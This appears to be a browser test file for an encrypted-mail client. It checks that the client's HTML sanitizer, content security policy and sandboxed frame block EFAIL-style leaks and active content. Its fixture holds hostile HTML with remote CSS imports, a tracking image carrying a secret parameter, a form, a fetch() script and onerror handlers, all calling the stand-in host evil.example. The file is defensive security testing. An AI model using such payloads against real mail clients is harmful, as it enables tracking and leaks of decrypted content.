/**
 * EFAIL and active content: a decrypted HTML body with remote images, CSS (@import, url(), <link>), fonts,
 * forms, media, frames, meta refresh and scripts. Recorded network requests: nothing leaves for a
 * non-localhost URL and the content frame makes no request at all; no script runs; cid: images resolve to
 * parts of the same entity only. The frame's CSP is also tested on its own with unsanitized HTML.
 */
import { test } from "@jest/globals";
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { FRAME_CSP } from "../../../src/ui/read/sanitize";
import { openssl } from "../../helpers/openssl";
import { SimulatorPage } from "../pages/simulator";
import { leakedRequests, openRead, readPane } from "../pages/read";
import { browserSuite } from "../../helpers/suite";
import { withoutInertParseReports } from "../../helpers/page-errors";

const env = browserSuite({
  identities: {
    bob: ["bob", "bob@lab.example"],
  },
});

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

const HOSTILE = `<html><head>
<style>@import url(http://evil.example/import.css); body { background: url("http://evil.example/bg.png") }
@font-face { font-family: spy; src: url(http://evil.example/font.woff) } p.f { font-family: spy }</style>
<style>p.mso { margin: 0 0 8pt; color: navy }</style>
<link rel="stylesheet" href="http://evil.example/link.css">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/">
</head><body>
<p>Visible clinical text</p>
<img src="http://evil.example/track.png?secret=">
<img src="relative.png">
<img src="cid:logo@clinic">
<img src="cid:elsewhere@clinic" alt="missing">
<div style="background-image: url('http://evil.example/div.png')">styled div</div>
<div style="background-image: image-set('http://evil.example/set.png' 1x)">set div</div>
<p style="color: red">kept style</p>
<p class="f">font text</p>
<form action="http://evil.example/form"><input name="q" value="secret"><button>Send</button></form>
<a href="http://evil.example/link">a link</a>
<script>document.title = "pwned-script"; console.log("pwned-script"); fetch("http://evil.example/fetch")</script>
<img src="x" onerror="console.log('pwned-onerror'); document.title='pwned-onerror'">
<svg><image href="http://evil.example/svg.png"></image></svg>
<video src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a.mp3" autoplay></audio>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>
<table background="http://evil.example/table.png"><tr><td>cell</td></tr></table>
</body></html>`;

function hostileMessage(): string {
  const b = "----=_rel";
  const entity = [
    `Content-Type: multipart/related; boundary="${b}"; type="text/html"`,
    "",
    `--${b}`,
    "Content-Type: text/html; charset=utf-8",
    "",
    HOSTILE,
    `--${b}`,
    "Content-Type: image/png",
    "Content-Transfer-Encoding: base64",
    "Content-ID: <logo@clinic>",
    "Content-Disposition: inline",
    "",
    PNG,
    `--${b}--`,
    "",
  ].join("\r\n");
  const input = join(env.pki.dir, "hostile.mime");
  writeFileSync(input, entity);
  return openssl(["cms", "-encrypt", "-in", input, "-aes-256-cbc", "-from", "alice@clinic.example", "-to", "bob@lab.example", "-subject", "Hi", "-recip", env.ids.bob.certPath]).toString("latin1");
}

test("hostile HTML: no request leaves, the content frame makes none, no script runs, cid: resolves inside the entity", async () => {
  const s = await SimulatorPage.open(env, { identities: [env.ids.bob] });
  const frame = await openRead(s, hostileMessage());
  const v = await readPane(frame);
  assert.equal(v.kind, "opened");
  const srcdoc = v.htmlSrcdoc ?? "";
  assert.match(srcdoc, /Visible clinical text/);
  assert.ok(srcdoc.includes(`http-equiv="Content-Security-Policy" content="${FRAME_CSP.replace(/'/g, "&#39;")}"`), "CSP meta first in head");
  // The cid image became a data: URL of the related part; the unknown cid has no source.
  assert.ok(srcdoc.includes(`src="data:image/png;base64,${PNG}"`));
  assert.doesNotMatch(srcdoc, /<(script|form|input|button|iframe|object|video|audio|link|base|meta http-equiv="refresh"|svg)\b/i);
  assert.doesNotMatch(srcdoc, /(src|href|background|action)="(https?:|\/\/|relative)/i);
  assert.doesNotMatch(srcdoc, /url\(\s*["']?http/i);
  assert.doesNotMatch(srcdoc, /@import|onerror|image-set/i);
  assert.match(srcdoc, /<p style="color: red">kept style<\/p>/, "harmless inline style stays");
  assert.ok(srcdoc.includes("<style>p.mso { margin: 0 0 8pt; color: navy }</style>"), "harmless head style stays");
  assert.match(srcdoc, /a link \[http:\/\/evil\.example\/link\]/, "links are inert text showing their address");
  assert.equal(await frame.locator('[data-testid="html-body"]').getAttribute("sandbox"), "");
  assert.match((await frame.locator('[data-testid="blocked-note"]').textContent()) ?? "", /Remote content .* was blocked/);

  // Give the content frame time to (not) load anything, then check the recorded requests.
  const content = frame.childFrames()[0];
  assert.ok(content, "the content frame exists");
  await content.waitForLoadState("load");
  await s.page.waitForTimeout(500);
  assert.deepEqual(leakedRequests(s, env.server.url), []);
  assert.equal(s.requests.filter((r) => r.frame() === content).length, 0);
  assert.deepEqual(s.consoleMessages.filter((m) => /pwned/.test(m)), []);
  assert.doesNotMatch(await content.title(), /pwned/);
  // Only the reports of the sanitizer's inert parse (nothing loaded or ran), and nothing else.
  assert.deepEqual(withoutInertParseReports(s.errors), []);
  await s.close();
});

test("the frame's CSP and sandbox alone (unsanitized HTML) block every remote load and all script", async () => {
  const s = await SimulatorPage.open(env, { identities: [env.ids.bob] });
  await openRead(s, hostileMessage());
  const raw = `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="${FRAME_CSP}"></head><body>${HOSTILE.replace(/<\/?(html|head|body)>/g, "")}</body></html>`;
  // In the simulator page: the pane's own policy (Trusted Types) refuses an HTML string for srcdoc, and this
  // tests the frame's CSP and sandbox without the pane's policy around them.
  await s.page.evaluate((doc) => {
    const f = document.createElement("iframe");
    f.setAttribute("sandbox", "");
    f.id = "raw-test-frame";
    f.srcdoc = doc;
    document.body.appendChild(f);
    return new Promise((r) => f.addEventListener("load", r, { once: true }));
  }, raw);
  await s.page.waitForTimeout(800);
  // Chromium reports CSS image loads as requests that then fail with "csp" before any network access;
  // none may reach the network layer (where the harness's route would log it as an external request).
  const external = s.requests.filter((r) => /evil\.example/.test(r.url()));
  for (const r of external) assert.equal(r.failure()?.errorText, "csp", r.url());
  assert.deepEqual(s.errors.filter((e) => /external request/.test(e)), []);
  assert.deepEqual(s.consoleMessages.filter((m) => /pwned/.test(m)), []);
  await s.close();
});
